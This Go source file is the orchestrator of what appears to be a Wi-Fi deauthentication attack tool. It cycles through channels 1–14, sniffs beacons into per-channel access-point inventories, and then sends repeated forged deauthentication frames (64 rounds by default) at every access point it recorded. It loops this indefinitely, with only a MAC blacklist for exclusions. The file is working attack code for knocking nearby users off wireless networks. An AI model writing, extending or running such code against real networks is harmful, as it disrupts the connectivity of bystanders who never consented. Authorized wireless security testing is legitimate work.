// Package orchestrator implements the Orchestrator (spec.md §4.7): it
// owns the DeauthContext, cycles channels via the Channel Setter,
// alternates probing and deauthenticating indefinitely, and enforces
// the configuration invariants (allowed channel set, blacklist, rounds,
// probe caps).
package orchestrator

import (
	"fmt"
	"log/slog"
	"strconv"
	"time"

	"github.com/bssid-zero/wiredeauth/internal/adapters/attack/deauth"
	"github.com/bssid-zero/wiredeauth/internal/adapters/sniffer/capture"
	"github.com/bssid-zero/wiredeauth/internal/adapters/sniffer/driver"
	"github.com/bssid-zero/wiredeauth/internal/adapters/sniffer/probe"
	"github.com/bssid-zero/wiredeauth/internal/core/domain"
	"github.com/bssid-zero/wiredeauth/internal/telemetry"
)

// DeauthContext is the orchestrator's owned state, matching spec.md §3
// field for field.
type DeauthContext struct {
	InterfaceName string
	socket        capture.Channel

	NDeauthRounds int

	allowedChannels        map[int]bool
	CurrentChannel         int
	ProbesPerChannel       int
	channelProbesRemaining int

	ProbeAddrLimit   int
	ProbeTimeLimitS  int
	inventories      [14]*domain.AccessPointInventory
	MACBlacklist     domain.Blacklist

	driver *driver.WirelessDriver
	log    *slog.Logger
}

// Options configures a DeauthContext at Config time; it mirrors the
// parsed command-line surface of spec.md §6.
type Options struct {
	InterfaceName    string
	NDeauthRounds    int
	AllowedChannels  []int
	Blacklist        domain.Blacklist
	ProbesPerChannel int
	ProbeAddrLimit   int
	ProbeTimeLimitS  int
}

// New returns a DeauthContext populated with the source's defaults
// (spec.md §4.7): n_deauth_rounds=64, probes_per_channel=3,
// probe_addr_limit=64, probe_time_limit_secs=20, no interface, no
// allowed channels.
func New(log *slog.Logger, drv *driver.WirelessDriver) *DeauthContext {
	if log == nil {
		log = slog.Default()
	}
	return &DeauthContext{
		NDeauthRounds:    64,
		ProbesPerChannel: 3,
		ProbeAddrLimit:   64,
		ProbeTimeLimitS:  20,
		allowedChannels:  make(map[int]bool),
		driver:           drv,
		log:              log,
	}
}

// Config applies opts to ctx and validates the post-conditions
// spec.md §4.7/§8 invariant #1 require: interface set, at least one
// allowed channel with an allocated empty inventory, and a positive
// probe budget.
func (ctx *DeauthContext) Config(opts Options) error {
	if opts.InterfaceName == "" {
		return domain.ErrInterfaceRequired
	}
	if len(opts.AllowedChannels) == 0 {
		return domain.ErrNoAllowedChannels
	}
	if opts.NDeauthRounds < 1 || opts.NDeauthRounds > 256 {
		return fmt.Errorf("%w: %d", domain.ErrInvalidDeauthRounds, opts.NDeauthRounds)
	}
	if opts.ProbeAddrLimit == 0 && opts.ProbeTimeLimitS == 0 {
		return domain.ErrNoProbeBudget
	}

	ctx.InterfaceName = opts.InterfaceName
	ctx.NDeauthRounds = opts.NDeauthRounds
	ctx.MACBlacklist = opts.Blacklist
	if opts.ProbesPerChannel > 0 {
		ctx.ProbesPerChannel = opts.ProbesPerChannel
	}
	ctx.ProbeAddrLimit = opts.ProbeAddrLimit
	ctx.ProbeTimeLimitS = opts.ProbeTimeLimitS

	ctx.allowedChannels = make(map[int]bool, len(opts.AllowedChannels))
	for _, c := range opts.AllowedChannels {
		if c < 1 || c > 14 {
			return fmt.Errorf("%w: %d", domain.ErrInvalidChannel, c)
		}
		if ctx.allowedChannels[c] {
			continue
		}
		ctx.allowedChannels[c] = true
		ctx.inventories[c-1] = domain.NewAccessPointInventory()
	}

	return nil
}

// Init opens the packet socket via the Raw Packet Channel, tunes to
// the smallest allowed channel, and resets the probe dwell counter.
func (ctx *DeauthContext) Init() error {
	if ctx.InterfaceName == "" {
		return domain.ErrInterfaceRequired
	}

	sock, err := capture.Open(ctx.InterfaceName, capture.ProtocolAll)
	if err != nil {
		return fmt.Errorf("orchestrator: open channel: %w", err)
	}
	return ctx.InitWithChannel(sock)
}

// InitWithChannel performs Init's post-open work against a
// caller-supplied Channel, bypassing the real AF_PACKET/pcap open —
// used by tests to drive the orchestrator against a MockChannel.
func (ctx *DeauthContext) InitWithChannel(ch capture.Channel) error {
	if ctx.InterfaceName == "" {
		return domain.ErrInterfaceRequired
	}

	ctx.socket = ch
	ctx.CurrentChannel = ctx.smallestAllowedChannel()
	if err := ctx.setChannel(ctx.CurrentChannel); err != nil {
		ctx.log.Warn("initial channel set failed", "channel", ctx.CurrentChannel, "error", err)
	}
	ctx.channelProbesRemaining = ctx.ProbesPerChannel

	return nil
}

func (ctx *DeauthContext) smallestAllowedChannel() int {
	for c := 1; c <= 14; c++ {
		if ctx.allowedChannels[c] {
			return c
		}
	}
	return 1
}

// setChannel issues a best-effort channel switch (spec.md §4.2/§7): a
// failure is logged, not propagated, so probing continues on the
// previous channel.
func (ctx *DeauthContext) setChannel(channel int) error {
	if ctx.driver == nil {
		return nil
	}
	err := ctx.driver.SetChannel(ctx.InterfaceName, channel)
	if err != nil {
		telemetry.ChannelSetFailures.WithLabelValues(ctx.InterfaceName, strconv.Itoa(channel)).Inc()
	}
	return err
}

// CycleChannel scans the 14 channels starting at (c_old mod 14),
// walking forward, and selects the first allowed one (spec.md §4.7). If
// the result differs from the prior channel, it calls the Channel
// Setter to retune.
func (ctx *DeauthContext) CycleChannel() {
	old := ctx.CurrentChannel
	for i := 0; i < 14; i++ {
		chanIndex := (i + old) % 14
		channel := chanIndex + 1
		if ctx.allowedChannels[channel] {
			ctx.CurrentChannel = channel
			break
		}
	}

	if ctx.CurrentChannel != old {
		if err := ctx.setChannel(ctx.CurrentChannel); err != nil {
			ctx.log.Warn("channel set failed", "channel", ctx.CurrentChannel, "error", err)
		}
	}
}

// GatherAPs implements the Probe Engine's driver loop (spec.md §4.5):
// cycle the channel if the dwell is exhausted, then gather beacons
// into the current channel's inventory under the configured budget.
func (ctx *DeauthContext) GatherAPs() error {
	if ctx.channelProbesRemaining == 0 {
		ctx.CycleChannel()
		ctx.channelProbesRemaining = ctx.ProbesPerChannel
	}
	ctx.channelProbesRemaining--

	inventory := ctx.inventories[ctx.CurrentChannel-1]
	if inventory == nil {
		return fmt.Errorf("%w: channel %d", domain.ErrInventoryAbsent, ctx.CurrentChannel)
	}

	budget := probe.Budget{
		AddrLimit: ctx.ProbeAddrLimit,
		TimeLimit: time.Duration(ctx.ProbeTimeLimitS) * time.Second,
	}
	return probe.Gather(ctx.socket, inventory, ctx.CurrentChannel, ctx.MACBlacklist, budget)
}

// DeauthAPs implements the Deauth Engine's driver step (spec.md §4.6):
// emit NDeauthRounds forged frames at every record in the current
// channel's inventory.
func (ctx *DeauthContext) DeauthAPs() error {
	inventory := ctx.inventories[ctx.CurrentChannel-1]
	if inventory == nil {
		return fmt.Errorf("%w: channel %d", domain.ErrInventoryAbsent, ctx.CurrentChannel)
	}
	return deauth.DeauthAPs(ctx.socket, inventory, ctx.NDeauthRounds)
}

// Run drives the main loop: alternate GatherAPs and DeauthAPs
// indefinitely until either returns an error (spec.md §4.7, §5).
func (ctx *DeauthContext) Run() error {
	for {
		if err := ctx.GatherAPs(); err != nil {
			return err
		}
		if err := ctx.DeauthAPs(); err != nil {
			return err
		}
	}
}

// Exit closes the packet socket if it was opened, tolerating
// partially-initialized state (spec.md §7).
func (ctx *DeauthContext) Exit() error {
	if ctx.socket == nil {
		return nil
	}
	err := ctx.socket.Close()
	ctx.socket = nil
	return err
}

// Destroy releases the blacklist, every allocated inventory, and the
// context itself (spec.md §4.7).
func (ctx *DeauthContext) Destroy() {
	ctx.MACBlacklist = nil
	for i := range ctx.inventories {
		if ctx.inventories[i] != nil {
			ctx.inventories[i].Destroy()
			ctx.inventories[i] = nil
		}
	}
}

// Inventory returns the AccessPointInventory for channel (1..14), or
// nil if that channel is not allowed. Exposed for the record-file
// loader and for tests.
func (ctx *DeauthContext) Inventory(channel int) *domain.AccessPointInventory {
	if channel < 1 || channel > 14 {
		return nil
	}
	return ctx.inventories[channel-1]
}
